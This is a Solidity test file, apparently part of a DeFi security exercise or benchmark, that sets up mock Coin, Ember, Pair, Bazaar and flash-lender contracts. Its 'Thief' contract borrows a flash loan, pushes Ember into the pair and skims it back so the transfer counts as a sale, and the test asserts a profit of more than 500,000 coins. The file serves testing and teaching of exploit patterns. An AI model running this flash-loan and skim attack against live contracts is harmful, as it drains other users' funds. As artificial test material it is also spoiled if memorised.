// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Bazaar} from "../burn-from-pair/src/Bazaar.sol";
import {Ember} from "../burn-from-pair/src/Ember.sol";
import {Pair} from "../burn-from-pair/src/Pair.sol";
import {FlashLender, Token} from "../burn-from-pair/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Bazaar private immutable bazaar;
    Pair private immutable pair;
    Ember private immutable ember;
    Token private immutable coin;

    constructor(Bazaar bazaar_, Ember ember_, Token coin_) {
        bazaar = bazaar_;
        pair = bazaar_.pair();
        ember = ember_;
        coin = coin_;
        ember.approve(address(bazaar), type(uint256).max);
        coin.approve(address(bazaar), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(coin), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        bazaar.buy(amount, 0);
        // What is sent and fetched back counts as a sale.
        ember.transfer(address(pair), ember.balanceOf(address(this)));
        pair.skim(address(this));
        bazaar.sell(ember.balanceOf(address(this)), 0);
        coin.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract BurnFromPairTest {
    event Profit(uint256 coins);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    Token private coin;
    Ember private ember;
    Pair private pair;
    Bazaar private bazaar;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        coin = new Token("Coin", "COIN");
        vm.prank(admin);
        ember = new Ember(10000000 ether);
        vm.prank(admin);
        pair = new Pair(ember, coin);
        vm.prank(admin);
        bazaar = new Bazaar(pair);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        coin.mint(alice, 1200000 ether);
        vm.prank(admin);
        ember.transfer(alice, 2400000 ether);
        vm.prank(admin);
        coin.mint(bob, 150000 ether);
        vm.prank(admin);
        ember.transfer(bob, 300000 ether);
        vm.prank(admin);
        coin.mint(carol, 40000 ether);
        vm.prank(admin);
        ember.transfer(carol, 900000 ether);
        vm.prank(admin);
        coin.mint(attacker, 20000 ether);
        vm.prank(admin);
        ember.transfer(attacker, 20000 ether);
        vm.prank(admin);
        coin.mint(address(lender), 12000000 ether);
        vm.prank(alice);
        ember.approve(address(bazaar), 1e60);
        vm.prank(bob);
        ember.approve(address(bazaar), 1e60);
        vm.prank(carol);
        ember.approve(address(bazaar), 1e60);
        vm.prank(attacker);
        ember.approve(address(bazaar), 1e60);
        vm.prank(alice);
        coin.approve(address(bazaar), 1e60);
        vm.prank(bob);
        coin.approve(address(bazaar), 1e60);
        vm.prank(carol);
        coin.approve(address(bazaar), 1e60);
        vm.prank(attacker);
        coin.approve(address(bazaar), 1e60);
        vm.prank(alice);
        pair.approve(address(bazaar), 1e60);
        vm.prank(bob);
        pair.approve(address(bazaar), 1e60);
        vm.prank(carol);
        pair.approve(address(bazaar), 1e60);
        vm.prank(attacker);
        pair.approve(address(bazaar), 1e60);
        vm.prank(alice);
        bazaar.provide(2000000 ether, 1000000 ether);
        vm.prank(admin);
        ember.open(address(pair));
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief(bazaar, ember, coin);
        vm.prank(attacker);
        coin.transfer(address(thief), 10_000 ether);
        thief.attack(lender, 9_000_000 ether);
        uint256 profit = coin.balanceOf(address(thief)) - 10_000 ether;
        emit Profit(profit);
        require(profit > 500_000 ether, "no profit");
    }
}
